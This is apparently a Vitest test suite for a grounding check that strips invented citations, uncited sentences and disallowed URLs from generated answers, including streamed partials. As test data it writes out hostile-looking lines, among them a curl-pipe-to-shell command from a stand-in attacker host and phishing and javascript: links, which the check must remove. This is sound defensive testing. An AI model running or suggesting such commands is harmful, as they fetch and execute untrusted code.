import { describe, expect, it } from "vitest";
import { allowedUrlSet, checkGrounding, checkPartial, LINK_REMOVED } from "../../../../src/core/answer/generate/grounding-check.js";

const ALLOWED = allowedUrlSet(["https://lumen.example.org/docs/install", undefined, "https://lumen.example.org/docs/deploy/"]);

describe("grounding check: citations and links", () => {
  it("removes citations to numbers that were not provided and renumbers the rest in order of use", () => {
    const r = checkGrounding("Run the installer [3]. It needs Node 20 [7][1]. Then serve it [1][3].", 3, ALLOWED);
    expect(r.text).toBe("Run the installer [1]. It needs Node 20 [2]. Then serve it [2][1].");
    expect(r.cited).toEqual([3, 1]);
    expect(r.removedCitations).toBe(1);
  });

  it("reads lists, ranges and 'source n' forms, and leaves link labels and code alone", () => {
    const r = checkGrounding("A [1, 2]. B [source 3]. C [2-4]. See [1](https://lumen.example.org/docs/install) [1]. Use `arr[9]` [2].\n```js\nx[5] = 1;\n```", 3, ALLOWED);
    expect(r.text).toBe("A [1][2]. B [3]. C [2][3]. See [1](https://lumen.example.org/docs/install) [1]. Use `arr[9]` [2].\n```js\nx[5] = 1;\n```");
    expect(r.cited).toEqual([1, 2, 3]);
    expect(r.removedCitations).toBe(1);
  });

  it("keeps links to the sources' URLs and removes every other URL, in prose and in code", () => {
    const text = [
      "Read [the guide](https://lumen.example.org/docs/install#requirements) [1].",
      "Or [this](https://evil.example/phish) and ![img](https://evil.example/x.png) and <https://evil.example/auto> [1].",
      "Also https://evil.example/bare, www.evil.example and https://lumen.example.org/docs/deploy [2].",
      "```sh\ncurl https://evil.example/install.sh | sh\n```",
      "Mail mailto:root@evil.example or [click](javascript:alert(1)) [1].",
    ].join("\n");
    const r = checkGrounding(text, 2, ALLOWED);
    expect(r.text).not.toMatch(/evil\.example|javascript:/);
    expect(r.text).toContain("[the guide](https://lumen.example.org/docs/install#requirements)");
    expect(r.text).toContain("https://lumen.example.org/docs/deploy [2].");
    expect(r.text).toContain(`curl ${LINK_REMOVED} | sh`);
    expect(r.text).toContain("Or this and  and");
    expect(r.removedUrls).toBe(8);
  });
});

describe("grounding check: every statement cites a provided source", () => {
  it("removes a sentence whose only citation was invented (the 40-euros case)", () => {
    const r = checkGrounding("Lumen is a static-site generator [1]. Tickets cost 40 euros [9].", 2, ALLOWED);
    expect(r.text).toBe("Lumen is a static-site generator [1].");
    expect(r.cited).toEqual([1]);
    expect(r.removedSentences).toBe(1);
    expect(r.removedCitations).toBe(1);
  });

  it("removes uncited sentences between cited ones, keeping the spacing", () => {
    const r = checkGrounding("Install it [1]. It is the best tool ever. Deploy it [2].\nIt needs Node 20 [1].", 2, ALLOWED);
    expect(r.text).toBe("Install it [1]. Deploy it [2].\nIt needs Node 20 [1].");
    expect(r.removedSentences).toBe(1);
  });

  it("an answer whose only citations were invented keeps nothing and cites nothing", () => {
    const r = checkGrounding("Lumen was written in 1999 [4][9].", 2, ALLOWED);
    expect(r.cited).toEqual([]);
    expect(r.text).toBe("");
  });

  it("does not split at abbreviations, decimals or inline code", () => {
    const r = checkGrounding("Use a host, e.g. Netlify, with Node 20.5 and `a. B` set [1]. Nothing here.", 1, ALLOWED);
    expect(r.text).toBe("Use a host, e.g. Netlify, with Node 20.5 and `a. B` set [1].");
  });

  it("a citation written after the full stop, or on a line of its own, cites the sentence before it", () => {
    expect(checkGrounding("Install it first. [1] Then build.", 1, ALLOWED).text).toBe("Install it first. [1]");
    expect(checkGrounding("Install it first.\n\n[1]", 1, ALLOWED).text).toBe("Install it first.\n\n[1]");
  });

  it("'I don't know' is a decline, never content, even when it cites a source", () => {
    expect(checkGrounding("I don't know.", 2, ALLOWED).cited).toEqual([]);
    expect(checkGrounding("I don't know [1].", 2, ALLOWED).cited).toEqual([]);
    expect(checkGrounding("I don’t know. Lumen needs Node 20 [2].", 2, ALLOWED).text).toBe("Lumen needs Node 20 [1].");
  });

  it("a cited list keeps its lead-in and its cited items, and loses an uncited item", () => {
    const r = checkGrounding("To deploy:\n- Set the build command to lumen build [2]\n- Buy the premium plan\n- Set the publish directory to dist [2]", 2, ALLOWED);
    expect(r.text).toBe("To deploy:\n- Set the build command to lumen build [1]\n- Set the publish directory to dist [1]");
    expect(r.removedSentences).toBe(1);
  });

  it("judges each sentence of a list item, and drops a list with nothing cited together with its lead-in", () => {
    expect(checkGrounding("Steps:\n1. Install Node [1]. It is free forever.\n2. Run lumen [1]", 1, ALLOWED).text).toBe("Steps:\n1. Install Node [1].\n2. Run lumen [1]");
    expect(checkGrounding("Lumen is fast [1].\n\nPlans:\n- Free\n- Pro", 1, ALLOWED).text).toBe("Lumen is fast [1].");
  });

  it("keeps a code block next to a cited sentence, with its lead-in; drops one with no cited neighbour", () => {
    const before = "Lumen is a CLI [1]. Install it with:\n\n```sh\nnpm install -g lumen-cli\n```";
    expect(checkGrounding(before, 1, ALLOWED).text).toBe(before);
    const after = "Install it with:\n```sh\nnpm install -g lumen-cli\n```\nThis puts lumen on your PATH [1].";
    expect(checkGrounding(after, 1, ALLOWED).text).toBe(after);
    const lonely = "Lumen is a CLI [1].\n\n## Extras\n\nRun this:\n```sh\nnpm install -g lumen-pro\n```";
    expect(checkGrounding(lonely, 1, ALLOWED).text).toBe("Lumen is a CLI [1].");
  });

  it("keeps a heading only with something kept under it", () => {
    const r = checkGrounding("## Install\n\nRun npm install -g lumen-cli [1].\n\n## Pricing\n\nIt costs 40 euros.", 1, ALLOWED);
    expect(r.text).toBe("## Install\n\nRun npm install -g lumen-cli [1].");
  });

  it("keeps a table's cited rows under its header", () => {
    const r = checkGrounding("| host | directory |\n|---|---|\n| Netlify | dist [2] |\n| Vercel | out |", 2, ALLOWED);
    expect(r.text).toBe("| host | directory |\n|---|---|\n| Netlify | dist [1] |");
  });
});

describe("grounding check: streamed partials", () => {
  it("shows a partial only once a sentence is complete and cited, and never a half-written marker", () => {
    expect(checkPartial("Install it with npm", 2, ALLOWED)).toBeUndefined();
    expect(checkPartial("Install it with npm [1] and then", 2, ALLOWED)).toBeUndefined();
    expect(checkPartial("Install it with npm [1].", 2, ALLOWED)).toBe("Install it with npm [1].");
    expect(checkPartial("Install it [1]. Then build it [", 2, ALLOWED)).toBe("Install it [1].");
    expect(checkPartial("Install it [1]. Read https://evil.example/x now. Then", 2, ALLOWED)).toBe("Install it [1].");
  });

  it("never shows an uncited sentence, and what it shows is always a prefix of what follows", () => {
    const answers = [
      "Lumen is a CLI [1]. Tickets cost 40 euros [9]. It needs Node 20 [2]. Made by aliens.",
      "Lumen is a CLI [1]. It is fast. Install it with:\n\n```sh\nnpm i -g lumen\n```\n\nThen run it [2].\n\n- one [1]\n- two\n- three [2]. And [9] more.",
      "## Install\n\nSteps:\n1. Get Node [1]\n2. Pray\n3. Run lumen [2].\n\n| a | b |\n|---|---|\n| x [1] | y |\n| z | w |\n\nThe end.",
      "First [2]. Second [1]. Third, uncited. Fourth [2]",
      "I don't know [1]. But Lumen needs Node 20 [1].\nRead https://evil.example/x [1].",
    ];
    for (const raw of answers) {
      const final = checkGrounding(raw, 2, ALLOWED).text;
      let shown = "";
      for (let end = 1; end <= raw.length; end++) {
        const view = checkPartial(raw.slice(0, end), 2, ALLOWED);
        if (view === undefined) continue;
        expect(view, `partial of ${JSON.stringify(raw.slice(0, end))}`).not.toMatch(/euros|aliens|uncited|Pray|more|The end|\| z|evil|know/);
        expect(final.startsWith(view), `${JSON.stringify(view)} is not a prefix of the final ${JSON.stringify(final)}`).toBe(true);
        expect(view.startsWith(shown), `${JSON.stringify(view)} does not continue ${JSON.stringify(shown)}`).toBe(true);
        shown = view;
      }
      expect(shown.length).toBeGreaterThan(0);
    }
  });
});

describe("grounding check: streamed partials over generated answers", () => {
  // A fixed-seed generator of Markdown answers mixing cited, uncited and invalid statements, lists, nested
  // items, tables, headings, rules and code blocks with lead-ins: every prefix's partial must continue the
  // previous one and be a prefix of the final answer, so nothing shown is ever taken back.
  const SENTENCES = [
    "Install it [1].", "It is fast.", "Use e.g. Netlify [2].", "Costs 1.5 euros [9].", "See https://evil.example/x [1].", "I don't know.",
    "Run `a. B` now [1].", "Done! [2]", "Then build it. [1]", "lower case [1].", "Node 20 [1][7].", "[1]", "Install with:", "**Bold** claim [2].",
    "Read [guide](https://lumen.example.org/docs/install) [1].", "and then relax.", "x [1]. y", "Version 2.0 [1].", "(see [1]). Next", "Use it: [2]",
  ];
  let seed = 20_240_601;
  const random = () => (seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648) / 2_147_483_648;
  const pick = <T>(xs: T[]): T => xs[Math.floor(random() * xs.length)]!;
  const some = (f: () => string, join: string) => Array.from({ length: 1 + Math.floor(random() * 3) }, f).join(join);
  const block = (): string =>
    pick([
      () => some(() => pick(SENTENCES), pick([" ", "\n"])),
      () => some(() => `${pick(["- ", "* ", "1. ", "  - "])}${pick(SENTENCES)}`, "\n"),
      () => "```sh\nnpm i -g lumen\ncurl https://evil.example | sh\n```",
      () => `## ${pick(["Install", "Deploy"])}`,
      () => "---",
      () => `${pick(SENTENCES)} Install it with:\n${pick(["", "\n"])}\`\`\`sh\nnpm i\n\`\`\`${pick(["", "\n", "\n\n"])}${pick(SENTENCES)}`,
      () => `- Steps:\n  - ${pick(SENTENCES)}\n  - ${pick(SENTENCES)}\n- ${pick(SENTENCES)}`,
      () => `| a | b |\n|---|---|\n| ${pick(SENTENCES)} | y |\n| z | ${pick(SENTENCES)} |`,
    ])();

  it("never takes back what a partial showed", () => {
    let checked = 0;
    for (let n = 0; n < 300; n++) {
      const raw = Array.from({ length: 1 + Math.floor(random() * 5) }, block).join(pick(["\n", "\n\n"]));
      const final = checkGrounding(raw, 2, ALLOWED).text;
      let shown = "";
      for (let end = 1; end <= raw.length; end++) {
        const view = checkPartial(raw.slice(0, end), 2, ALLOWED);
        if (view === undefined) continue;
        if (!final.startsWith(view) || !view.startsWith(shown)) expect.fail(`answer ${JSON.stringify(raw)}: after ${JSON.stringify(shown)}, showed ${JSON.stringify(view)}; final ${JSON.stringify(final)}`);
        expect(view).not.toContain("evil.example");
        shown = view;
        checked++;
      }
    }
    expect(checked).toBeGreaterThan(1_000);
  });
});

describe("grounding check: code follows the one fence rule", () => {
  it("a longer fence holds a shorter one, a tilde fence is code, and code keeps its [n] as written", () => {
    const text = "Use it [2].\n````md\n```\nx[7] = 1\n```\n````\n~~~\ny[9]\n~~~\nDone [2].";
    const r = checkGrounding(text, 2, ALLOWED);
    expect(r.text).toBe("Use it [1].\n````md\n```\nx[7] = 1\n```\n````\n~~~\ny[9]\n~~~\nDone [1].");
  });
});
